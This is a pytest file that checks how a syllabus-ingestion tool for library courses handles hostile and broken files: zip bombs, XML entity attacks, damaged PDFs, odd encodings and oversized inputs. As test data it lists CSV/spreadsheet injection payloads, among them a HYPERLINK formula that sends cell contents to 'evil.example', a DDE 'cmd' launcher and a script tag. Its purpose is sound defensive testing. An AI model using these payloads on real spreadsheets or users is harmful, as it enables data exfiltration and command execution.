"""Hostile and broken inputs: one bad file never stops a batch or leaks data.

Every case is built by ``tests/hostile.py`` into a fresh folder together with a
well-formed syllabus (LTA 999). ``load_syllabi`` must read the good syllabus,
and either refuse the bad file with a reason a faculty member understands, or
read it correctly (odd encodings, scripts, file names, spreadsheet quirks).
"""

from __future__ import annotations

import logging
import sys
from pathlib import Path

import pandas as pd
import pytest

sys.path.insert(0, str(Path(__file__).parent))

import hostile  # noqa: E402

import lta_align as la  # noqa: E402
from lta_align._office import FORMULA_START  # noqa: E402
from lta_align.columns import PROBLEM_COLUMNS, STATEMENT_COLUMNS  # noqa: E402
from lta_align.errors import InputFileError, ParseError  # noqa: E402
from lta_align.ingest import Limits  # noqa: E402
from lta_align.text import clean  # noqa: E402


@pytest.fixture(autouse=True)
def _quiet_batch_summary(caplog):
    # load_syllabi logs one summary line when files are skipped; keep it out of
    # the test output but available to assertions
    caplog.set_level(logging.WARNING, logger="lta_align.ingest")


def _batch(tmp_path: Path, case: str, **kwargs) -> tuple[la.Program, Path]:
    hostile.good_syllabus(tmp_path)
    bad = hostile.CASES[case](tmp_path)
    return la.load_syllabi(tmp_path, **kwargs), bad


def _assert_good_course_read(program) -> None:
    good = program.statements[program.statements["course_id"] == "LTA999"]
    assert hostile.GOOD_OUTCOME in good["text"].tolist()
    assert list(program.statements.columns[:6]) == STATEMENT_COLUMNS
    assert list(program.problems.columns) == PROBLEM_COLUMNS


def _problems_of(program, path: Path) -> pd.DataFrame:
    return program.problems[program.problems["source"] == str(path)]


def _texts(program, course_id: str) -> list[str]:
    st = program.statements
    return st.loc[st["course_id"] == course_id, "text"].tolist()


# --- files that must be refused, with the reason shown ------------------------------
REFUSED = {
    "truncated_docx": ("LTA301", "not a valid Word document"),
    "truncated_xlsx": ("LTA302", "not a valid Excel"),
    "text_renamed_docx": ("LTA303", "not a valid Word document"),
    "billion_laughs_docx": ("LTA305", "its XML declares entities"),
    "xxe_xlsx": ("LTA306", "its XML declares entities"),
    "zip_bomb_docx": ("LTA307", "zip bomb"),
    "zip_bomb_xlsx": ("LTA308", "zip bomb"),
    "understated_bomb_docx": ("LTA309", "not a valid Word document"),
    "encrypted_pdf": ("LTA310", "password-protected"),
    "scanned_pdf": ("LTA311", "no text layer"),
    "truncated_pdf": ("LTA312", "damaged"),
    "empty_md": ("LTA313", "empty"),
    "empty_docx": ("LTA314", "empty"),
    "blank_txt": ("LTA315", "no text"),
    "random_bytes_md": ("LTA316", "looks binary"),
    "png_renamed_md": ("LTA317", "looks binary"),
    "csv_missing_columns": ("LTA320", "no header row with a course column"),
    "xlsx_missing_columns": ("LTA322", "no header row with a course column"),
}


@pytest.mark.parametrize(
    ("case", "course_id", "reason"),
    [(k, *v) for k, v in REFUSED.items()],
    ids=list(REFUSED),
)
def test_bad_file_is_reported_by_name_and_the_good_syllabus_is_still_read(
    tmp_path, case, course_id, reason
):
    program, bad = _batch(tmp_path, case)

    _assert_good_course_read(program)
    problems = _problems_of(program, bad)
    assert problems["severity"].tolist() == ["error"], program.problems
    message = problems["reason"].iloc[0]
    assert reason in message
    assert len(message) < 600  # a sentence or two, not a traceback
    assert "Traceback" not in message
    assert course_id not in program.courses["course_id"].tolist()


@pytest.mark.parametrize("case", list(REFUSED), ids=list(REFUSED))
def test_strict_mode_raises_an_input_file_error_naming_the_bad_file(tmp_path, case):
    bad = hostile.CASES[case](tmp_path)

    with pytest.raises(InputFileError) as info:
        la.load_syllabi(bad, strict=True)

    assert info.value.path.name == bad.name
    assert bad.name in str(info.value)
    assert REFUSED[case][1] in info.value.reason


# --- XML entities are never expanded ---------------------------------------------
def test_docx_external_entity_is_not_expanded(tmp_path):
    program, bad = _batch(tmp_path, "xxe_docx")

    _assert_good_course_read(program)
    everything = " ".join(program.statements["text"]) + " ".join(
        program.courses.astype(str).agg(" ".join, axis=1)
    )
    for marker in hostile.PASSWD_MARKERS:
        assert marker not in everything
    assert "INTERNAL-ENTITY-TEXT" not in everything  # no entity is expanded at all
    assert "Describe the reference interview." in _texts(program, "LTA304")


def test_xlsx_external_entity_is_refused_without_reading_the_file(tmp_path):
    program, bad = _batch(tmp_path, "xxe_xlsx")

    assert not any(
        m in " ".join(program.statements["text"]) for m in hostile.PASSWD_MARKERS
    )
    assert _problems_of(program, bad)["severity"].tolist() == ["error"]


# --- files that must be read correctly ---------------------------------------------
def test_html_scripts_and_styles_are_dropped_and_entities_decoded(tmp_path):
    program, _ = _batch(tmp_path, "html_script_entities")

    texts = _texts(program, "LTA330")
    assert "Apply RDA & MARC 21 to describe résumé collections." in texts
    assert "Explain the library's classification policy." in texts
    assert "Assign Dewey numbers to print books." in texts
    joined = " ".join(program.statements["text"])
    assert hostile.HTML_SCRIPT not in joined
    assert "evil.example" not in joined
    assert "color: red" not in joined
    assert "&amp;" not in joined and "&eacute;" not in joined


def test_windows_1252_text_is_decoded_with_a_warning(tmp_path):
    program, bad = _batch(tmp_path, "cp1252_md")

    assert clean(hostile.CP1252_OUTCOME) in _texts(program, "LTA331")
    warning = _problems_of(program, bad)
    assert warning["severity"].tolist() == ["warning"]
    assert "Windows-1252" in warning["reason"].iloc[0]


@pytest.mark.parametrize(
    ("case", "course_id", "outcome"),
    [
        ("utf16_md", "LTA332", hostile.UTF16_OUTCOME),
        ("utf8_bom_md", "LTA333", "Shelve DVDs by call number."),
        (
            "crlf_md",
            "LTA334",
            "Process interlibrary loan requests for patrons of the library.",
        ),
    ],
    ids=["utf16-with-bom", "utf8-with-bom", "crlf-line-endings"],
)
def test_byte_order_marks_and_line_endings_are_read_cleanly(
    tmp_path, case, course_id, outcome
):
    program, bad = _batch(tmp_path, case)

    assert clean(outcome) in _texts(program, course_id)
    assert _problems_of(program, bad).empty
    joined = "".join(program.statements["text"]) + "".join(program.courses["course_id"])
    assert "\r" not in joined and "\ufeff" not in joined and "\x00" not in joined


@pytest.mark.parametrize("script", list(hostile.NON_LATIN), ids=list(hostile.NON_LATIN))
def test_outcomes_in_non_latin_scripts_are_kept(tmp_path, script):
    code, _title, outcome = hostile.NON_LATIN[script]
    program, bad = _batch(tmp_path, f"{script}_md")

    course_id = code.replace(" ", "")
    st = program.statements
    mine = (st["course_id"] == course_id) & (st["kind"] == "outcome")
    outcomes = st.loc[mine, "text"]
    assert outcomes.tolist() == [clean(outcome)]
    assert "error" not in _problems_of(program, bad)["severity"].tolist()


def test_file_name_with_spaces_and_accents_is_read_and_named(tmp_path):
    program, bad = _batch(tmp_path, "accented_name_md")

    assert bad.name == "Catalogación básica.md"
    st = program.statements
    row = st[st["course_id"] == "LTA338"]
    assert hostile.ACCENTED_OUTCOME in row["text"].tolist()
    assert Path(row["source"].iloc[0]).name == "Catalogación básica.md"
    assert program.courses.set_index("course_id").loc["LTA338", "course_title"] == (
        "Catalogación básica"
    )


def test_csv_formulas_are_read_as_plain_text_never_evaluated(tmp_path):
    program, _ = _batch(tmp_path, "csv_formulas")

    texts = _texts(program, "LTA339")
    assert "Shelve books daily." in texts
    assert hostile.FORMULAS[0] in texts  # the HYPERLINK formula, verbatim
    assert "@SUM(1)" in texts
    assert "2" not in texts and "3" not in texts  # nothing was calculated


def test_xlsx_formulas_give_the_value_excel_shows(tmp_path):
    program, _ = _batch(tmp_path, "xlsx_formulas")

    texts = _texts(program, "LTA340")
    assert texts == ["Shelve books daily.", *hostile.XLSX_CACHED]
    assert not any(t.startswith("=") for t in texts)


def test_xlsx_merged_course_cells_apply_to_every_row_they_cover(tmp_path):
    program, _ = _batch(tmp_path, "xlsx_merged_cells")

    assert _texts(program, "LTA341") == list(hostile.MERGED_OUTCOMES)
    course = program.courses.set_index("course_id").loc["LTA341"]
    assert course["course_title"] == "Merged Course"


def test_xlsx_hidden_sheet_is_skipped_with_a_note(tmp_path):
    program, bad = _batch(tmp_path, "xlsx_hidden_sheet")

    assert hostile.HIDDEN_TEXT not in " ".join(program.statements["text"])
    assert _texts(program, "LTA342") == ["Weed the collection."]
    notes = _problems_of(program, bad)
    assert notes["severity"].tolist() == ["info"]
    assert "hidden" in notes["reason"].iloc[0]


def test_xlsx_extra_columns_and_header_variants_are_accepted(tmp_path):
    program, bad = _batch(tmp_path, "xlsx_extra_columns")

    assert _texts(program, "LTA343") == ["Mend books."]
    assert program.courses.set_index("course_id").loc["LTA343", "course_title"] == (
        "Extra Course"
    )
    assert _problems_of(program, bad).empty


# --- size: big files are bounded by the limits ----------------------------------------
def test_huge_text_file_is_cut_at_the_text_limit_with_a_warning(tmp_path):
    program, bad = _batch(tmp_path, "huge_txt")

    _assert_good_course_read(program)
    warnings = _problems_of(program, bad)
    assert set(warnings["severity"]) == {"warning"}
    reasons = " ".join(warnings["reason"])
    assert "more than 2,000,000 characters" in reasons
    assert "max_text_chars" in reasons
    kept = program.statements.loc[program.statements["course_id"] == "LTA318", "text"]
    assert 0 < kept.str.len().sum() <= Limits().max_text_chars
    assert kept.str.len().max() <= Limits().max_statement_chars


def test_huge_text_file_over_the_size_limit_is_skipped(tmp_path):
    program, bad = _batch(tmp_path, "huge_txt", limits=Limits(max_file_mb=10))

    _assert_good_course_read(program)
    reason = _problems_of(program, bad)["reason"].iloc[0]
    assert "20.0 MB, over the 10 MB limit" in reason
    assert "max_file_mb" in reason


def test_one_megabyte_line_is_read_without_swallowing_the_outcomes(tmp_path):
    program, bad = _batch(tmp_path, "long_line_md")

    _assert_good_course_read(program)
    assert "Describe cataloging workflows." in _texts(program, "LTA319")
    assert program.statements["text"].str.len().max() <= Limits().max_statement_chars
    warning = _problems_of(program, bad)
    assert warning["severity"].tolist() == ["warning"]
    assert "max_statement_chars" in warning["reason"].iloc[0]


def test_every_hostile_case_in_one_batch_reads_every_good_file(tmp_path):
    paths = hostile.build_all(tmp_path)

    program = la.load_syllabi(tmp_path)

    _assert_good_course_read(program)
    problems = program.problems
    errors = set(problems.loc[problems["severity"] == "error", "source"])
    assert errors == {str(paths[c]) for c in REFUSED}
    read = set(program.courses["course_id"])
    assert {"LTA330", "LTA331", "LTA332", "LTA338", "LTA339", "LTA343"} <= read


def test_a_damaged_file_in_strict_mode_is_a_parse_error(tmp_path):
    bad = hostile.truncated_docx(tmp_path)
    with pytest.raises(ParseError, match="LTA301_truncated.docx"):
        la.load_syllabi(bad, strict=True)


# --- each limit, with a small configured value ------------------------------------
def _many_outcomes_md(folder: Path, n: int = 40) -> Path:
    outcomes = [f"Describe library procedure number {i} for patrons." for i in range(n)]
    path = folder / "LTA350_many.md"
    path.write_text(
        hostile.syllabus_md("LTA 350", "Many Outcomes", outcomes), encoding="utf-8"
    )
    return path


def test_max_file_mb_skips_a_larger_file_and_says_how_to_raise_it(tmp_path):
    hostile.good_syllabus(tmp_path)
    big = _many_outcomes_md(tmp_path)  # ~2.3 KB; the good syllabus is ~0.5 KB

    program = la.load_syllabi(tmp_path, limits=Limits(max_file_mb=0.001))

    _assert_good_course_read(program)
    reason = _problems_of(program, big)["reason"].iloc[0]
    assert "over the 0.001 MB limit, so it was skipped" in reason
    assert "Limits(max_file_mb=...)" in reason and "--max-file-mb" in reason


def test_max_text_chars_keeps_the_start_of_the_file_with_a_warning(tmp_path):
    path = _many_outcomes_md(tmp_path)

    program = la.load_syllabi(path, limits=Limits(max_text_chars=800))

    texts = _texts(program, "LTA350")
    assert "Describe library procedure number 0 for patrons." in texts
    assert "Describe library procedure number 39 for patrons." not in texts
    reason = _problems_of(program, path)["reason"]
    assert reason.str.contains("more than 800 characters").any()
    assert reason.str.contains(r"Limits\(max_text_chars=\.\.\.\)").any()


def test_max_statement_chars_cuts_a_long_statement_at_a_word(tmp_path):
    long_outcome = "Describe " + "the history of public library services " * 10
    path = tmp_path / "LTA351_long.md"
    path.write_text(
        hostile.syllabus_md("LTA 351", "Long", [long_outcome, "Shelve books by call."]),
        encoding="utf-8",
    )

    program = la.load_syllabi(path, limits=Limits(max_statement_chars=100))

    texts = _texts(program, "LTA351")
    cut = [t for t in texts if t.startswith("Describe the history")]
    assert len(cut) == 1 and len(cut[0]) <= 100 and cut[0].endswith(" …")
    assert "Shelve books by call." in texts
    reason = _problems_of(program, path)["reason"].iloc[0]
    assert "1 statement(s) were longer than 100 characters" in reason
    assert "Limits(max_statement_chars=...)" in reason


def _three_page_pdf(folder: Path) -> Path:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_font("Helvetica", size=11)
    pages = [
        [
            "LTA 352 Paged Course",
            "Course Outcomes",
            "1. Describe the first page outcome for patrons.",
        ],
        ["2. Describe the second page outcome for patrons."],
        ["3. Describe the third page outcome for patrons."],
    ]
    for lines in pages:
        pdf.add_page()
        for line in lines:
            pdf.cell(0, 8, line, new_x="LMARGIN", new_y="NEXT")
    path = folder / "LTA352_paged.pdf"
    path.write_bytes(bytes(pdf.output()))
    return path


def test_max_pages_reads_only_the_first_pages_with_a_warning(tmp_path):
    path = _three_page_pdf(tmp_path)

    full = la.load_syllabi(path)
    cut = la.load_syllabi(path, limits=Limits(max_pages=2))

    assert any("third page" in t for t in _texts(full, "LTA352"))
    texts = _texts(cut, "LTA352")
    assert any("second page" in t for t in texts)
    assert not any("third page" in t for t in texts)
    reason = _problems_of(cut, path)["reason"].iloc[0]
    assert "3 pages; only the first 2 were read" in reason
    assert "Limits(max_pages=...)" in reason


def _docx_with_12_mb_part(folder: Path) -> Path:
    """A genuine-looking DOCX with a 12 MB embedded part that zips about 2:1."""
    import io
    import random
    import zipfile

    block = random.Random(7).randbytes(32_768).hex().encode()  # 64 KB of hex
    data = hostile._docx_syllabus("LTA 353", "Big Media", ["Describe media formats."])
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        dst.writestr("word/media/video.bin", block * 192)
    path = folder / "LTA353_big_media.docx"
    path.write_bytes(out.getvalue())
    return path


@pytest.mark.parametrize(
    ("limits", "expected"),
    [
        (Limits(), None),
        (Limits(max_zip_ratio=1.5), "zip bomb"),
        (Limits(max_unzipped_mb=5), "zip bomb"),
    ],
    ids=["defaults-read-it", "max_zip_ratio", "max_unzipped_mb"],
)
def test_zip_limits_are_configurable(tmp_path, limits, expected):
    path = _docx_with_12_mb_part(tmp_path)

    program = la.load_syllabi(path, limits=limits)

    problems = _problems_of(program, path)
    if expected is None:
        assert "Describe media formats." in _texts(program, "LTA353")
        assert problems.empty
    else:
        reason = problems["reason"].iloc[0]
        assert expected in reason
        assert "Limits(max_zip_ratio=..., max_unzipped_mb=...)" in reason
        assert program.statements.empty


@pytest.mark.parametrize(
    "kwargs",
    [
        {"max_file_mb": 0},
        {"max_pages": -1},
        {"max_text_chars": "many"},
        {"max_statement_chars": True},
    ],
    ids=["zero", "negative", "text", "bool"],
)
def test_limits_must_be_positive_numbers(kwargs):
    (name,) = kwargs
    with pytest.raises(ValueError, match=f"Limits.{name} should be a positive number"):
        Limits(**kwargs)


def test_cli_max_file_mb_is_passed_to_the_reader(tmp_path, capsys):
    from lta_align.cli import main

    (tmp_path / "in").mkdir()
    hostile.good_syllabus(tmp_path / "in")
    big = _many_outcomes_md(tmp_path / "in")

    status = main(
        [
            "run",
            str(tmp_path / "in"),
            "--out",
            str(tmp_path / "out"),
            "--max-file-mb",
            "0.001",
            "--quiet",
        ]
    )

    assert status == 0
    err = capsys.readouterr().err
    assert f"error: {big}: the file is" in err and "over the 0.001 MB limit" in err
    assert (tmp_path / "out" / "problems.csv").read_text("utf-8").count("LTA350") == 1


def test_cli_rejects_a_non_positive_max_file_mb(tmp_path, capsys):
    from lta_align.cli import main

    with pytest.raises(SystemExit) as exit_info:
        main(["run", str(tmp_path), "--out", str(tmp_path / "o"), "--max-file-mb", "0"])

    assert exit_info.value.code == 2
    assert "should be a positive number" in capsys.readouterr().err


# --- hostile text flowing into the outputs ----------------------------------------
EVIL_OUTCOMES = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Apply MARC 21 and RDA to catalog books")',
    "@SUM(1) Describe how to check out library materials to patrons and renew loans.",
    '<script>alert("x")</script> Explain the Dewey Decimal Classification system.',
    "+cmd|' /C calc'!A0 Describe the reference interview with library patrons.",
]
_FORMULA_START = FORMULA_START  # the package's one guard, full-width forms too


def test_syllabus_text_cannot_inject_formulas_or_scripts_into_outputs(tmp_path):
    import csv

    import openpyxl

    from lta_align.outputs import write_outputs

    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "LTA360_evil.md").write_text(
        hostile.syllabus_md("LTA 360", "Evil Course", EVIL_OUTCOMES), encoding="utf-8"
    )
    program = la.load_syllabi(tmp_path / "in")
    alignment = la.align(program, la.load_framework("lssc"))
    written = write_outputs(alignment, tmp_path / "out")

    assert program.statements["text"].str.startswith("=HYPERLINK").any()
    seen = {".csv": 0, ".xlsx": 0, ".html": 0}
    for path in written:
        if path.suffix == ".csv":
            with open(path, encoding="utf-8", newline="") as fh:
                for row in csv.reader(fh):
                    bad = [c for c in row if c.startswith(_FORMULA_START)]
                    assert not bad, f"{path.name}: {bad}"
        elif path.suffix == ".xlsx":
            wb = openpyxl.load_workbook(path)
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (ws.title, cell.coordinate)
                        if isinstance(cell.value, str):
                            assert not cell.value.startswith(_FORMULA_START)
            wb.close()
        elif path.suffix == ".html":
            html = path.read_text("utf-8")
            assert '<script>alert("x")' not in html
        seen[path.suffix] = seen.get(path.suffix, 0) + 1
    assert seen[".csv"] >= 5 and seen[".xlsx"] == 1 and seen[".html"] == 1
    # the text itself is kept, shown as text
    statements_csv = (tmp_path / "out" / "statements.csv").read_text("utf-8")
    assert "HYPERLINK" in statements_csv


def test_control_characters_never_reach_statements_or_the_evidence_pack(tmp_path):
    outcomes = [
        "Apply\x01 MARC 21 and RDA\x07 to catalog\x1b books in the library catalog.",
        "Assign Dewey Decimal\x08 classification numbers\x7f to library materials.",
    ]
    path = tmp_path / "LTA130_controls.md"
    path.write_text(hostile.syllabus_md("LTA 130", "Cataloging", outcomes), "utf-8")

    program = la.load_syllabi(path)
    alignment = la.align(program, la.load_framework("lssc"))
    written = la.evidence_pack(
        alignment, "LTA130", "cataloging_classification", tmp_path / "evidence"
    )

    texts = _texts(program, "LTA130")
    assert "Apply MARC 21 and RDA to catalog books in the library catalog." in texts
    assert not program.statements["text"].str.contains(r"[\x00-\x08\x7f]").any()
    assert {p.suffix for p in written} == {".docx", ".xlsx"}


def test_an_unreadable_file_is_reported_and_the_batch_goes_on(tmp_path, monkeypatch):
    # running as root, chmod cannot make a file unreadable: make reading it fail
    hostile.good_syllabus(tmp_path)
    locked = tmp_path / "LTA361_locked.md"
    locked.write_text(hostile.syllabus_md("LTA 361", "Locked", ["Shelve books."]))
    real_read_bytes = Path.read_bytes

    def read_bytes(self):
        if self.name == locked.name:
            raise PermissionError(13, "Permission denied", str(self))
        return real_read_bytes(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)

    program = la.load_syllabi(tmp_path)

    _assert_good_course_read(program)
    reason = _problems_of(program, locked)["reason"].iloc[0]
    assert "could not be opened (Permission denied)" in reason
    with pytest.raises(ParseError, match="LTA361_locked.md"):
        la.load_syllabi(locked, strict=True)
